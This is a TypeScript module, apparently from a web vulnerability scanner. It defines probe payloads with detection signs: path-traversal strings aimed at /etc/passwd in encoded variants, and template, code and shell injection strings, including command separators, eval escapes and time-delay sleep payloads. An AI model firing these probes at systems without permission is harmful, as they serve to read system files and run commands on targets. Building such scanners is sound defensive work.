/** A product that nobody writes by chance. */
const FACTORS = [7919, 6841] as const;
const OTHER_FACTORS = [7907, 6833] as const;

/** A payload with the sign by which its effect is seen. */
export interface Payload {
  readonly form: string;
  readonly text: string;
  readonly control: string;
  /** Stands in an answer only where the payload took effect. */
  readonly sign: string;
}

/** Ways in which a path leaves the folder that it should stay in. */
export type EscapeKind = 'absolute' | 'dot-dot' | 'encoded' | 'sibling' | 'symlink';

/** A path that leads out. */
export interface EscapePath {
  readonly kind: EscapeKind;
  readonly text: string;
}

/** Seen when the list of users of a Unix machine is read. */
export const USERS_SIGN = /\broot:[^:\n]*:0:0:/;

/** Paths to the one file that every Unix machine has and that anybody on it may read. */
export const ESCAPES: readonly EscapePath[] = [
  { kind: 'absolute', text: '/etc/passwd' },
  { kind: 'absolute', text: 'file:///etc/passwd' },
  { kind: 'dot-dot', text: '../../../../../../../../etc/passwd' },
  { kind: 'dot-dot', text: '....//....//....//....//....//....//....//etc/passwd' },
  { kind: 'dot-dot', text: '..\\..\\..\\..\\..\\..\\..\\etc\\passwd' },
  { kind: 'dot-dot', text: './../../../../../../../../../etc/passwd' },
  { kind: 'encoded', text: '..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { kind: 'encoded', text: '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd' },
  // Full-width letters, which become ours when a text is normalised.
  { kind: 'encoded', text: '\uff0e\uff0e\uff0f'.repeat(8).concat('etc\uff0fpasswd') },
  { kind: 'encoded', text: '..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd' },
];

/** Arithmetic alone: a fault where no arithmetic is offered. */
export const ARITHMETIC: readonly Payload[] = forms({
  sum: (a, b) => `${a}*${b}`,
  braces: (a, b) => `{{${a}*${b}}}`,
  dollar: (a, b) => `$\{${a}*${b}}`,
  percent: (a, b) => `<%= ${a}*${b} %>`,
  hash: (a, b) => `#{${a}*${b}}`,
  single: (a, b) => `{${a}*${b}}`,
  square: (a, b) => `[[${a}*${b}]]`,
  at: (a, b) => `@(${a}*${b})`,
  modulo: (a, b) => `%{${a}*${b}}`,
  statement: (a, b) => `{% print ${a}*${b} %}`,
});

/** Code, which no calculator takes. */
export const CODE: readonly Payload[] = forms({
  call: (a, b) => `(()=>${a}*${b})()`,
  list: (a, b) => `[${a},${b}].reduce((x,y)=>x*y)`,
  builder: (a, b) => `[].constructor.constructor('return ${a}*${b}')()`,
  text: (a, b) => `String(${a}*${b})`,
  math: (a, b) => `Math.imul(${a},${b})`,
  lambda: (a, b) => `(lambda: ${a}*${b})()`,
  import: (a, b) => `__import__('math').prod([${a},${b}])`,
  quote: (a, b) => `'+(${a}*${b})+'`,
  doubleQuote: (a, b) => `"+(${a}*${b})+"`,
});

/** Code of which only its truth is seen: it holds with two pairs of numbers, and fails with one. */
export interface Judged {
  readonly holds: string;
  readonly holdsToo: string;
  readonly fails: string;
}

/**
 * Conditions that are code, which no calculator and no filter takes. They do not name the product
 * itself: what a target has stored of them must not be taken for the effect of a payload.
 */
export const CONDITIONS: readonly Judged[] = [
  (claim: string) => `(()=>${claim})()`,
  (claim: string) => `(lambda: ${claim})()`,
  (claim: string) => `[1].some(()=>${claim})`,
].map((write) => {
  const [[a, b], [c, d]] = [FACTORS, OTHER_FACTORS];
  return {
    holds: write(`${a}*${b}+1==${a * b + 1}`),
    holdsToo: write(`${c}*${d}+1==${c * d + 1}`),
    fails: write(`${a}*${b}+1==${a * b + 3}`),
  };
});

/** Commands of a shell whose result is seen. */
export const SHELL: readonly Payload[] = forms({
  next: (a, b) => `x; echo $((${a}*${b}))`,
  and: (a, b) => `x && echo $((${a}*${b}))`,
  or: (a, b) => `x || echo $((${a}*${b}))`,
  pipe: (a, b) => `x | echo $((${a}*${b}))`,
  substitution: (a, b) => `$(echo $((${a}*${b})))`,
  backtick: (a, b) => `\`expr ${a} \\* ${b}\``,
  line: (a, b) => `x\necho $((${a}*${b}))`,
  quote: (a, b) => `x'; echo $((${a}*${b})); '`,
  doubleQuote: (a, b) => `x"; echo $((${a}*${b})); "`,
  plain: (a, b) => `echo $((${a}*${b}))`,
});

/** Commands that are seen by the time that they take, as a function of the seconds. */
export const DELAYS: Readonly<Record<string, (seconds: number) => string>> = {
  next: (seconds) => `x; sleep ${seconds}`,
  substitution: (seconds) => `$(sleep ${seconds})`,
  pipe: (seconds) => `x | sleep ${seconds}`,
  and: (seconds) => `x && sleep ${seconds}`,
  or: (seconds) => `x || sleep ${seconds}`,
  backtick: (seconds) => `\`sleep ${seconds}\``,
  line: (seconds) => `x\nsleep ${seconds}`,
  quote: (seconds) => `x'; sleep ${seconds}; '`,
  doubleQuote: (seconds) => `x"; sleep ${seconds}; "`,
  plain: (seconds) => `sleep ${seconds}`,
};

function forms(
  makers: Readonly<Record<string, (a: number, b: number) => string>>,
): readonly Payload[] {
  const [a, b] = FACTORS;
  const [c, d] = OTHER_FACTORS;
  return Object.entries(makers).map(([form, make]) => ({
    form,
    text: make(a, b),
    control: make(c, d),
    sign: String(a * b),
  }));
}
